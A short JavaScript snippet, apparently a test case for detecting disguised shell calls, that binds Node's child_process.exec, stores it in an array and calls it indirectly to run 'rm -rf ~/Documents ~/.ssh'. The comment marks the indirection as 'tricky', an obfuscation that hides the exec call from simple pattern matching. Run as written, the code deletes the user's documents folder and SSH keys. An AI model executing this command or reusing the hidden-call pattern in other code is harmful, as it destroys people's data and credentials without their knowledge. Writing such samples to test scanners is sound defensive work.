// tricky: bound and called later
const e = require('child_process').exec.bind(null);
const later = [e];
later[0]('rm -rf ~/Documents ~/.ssh');
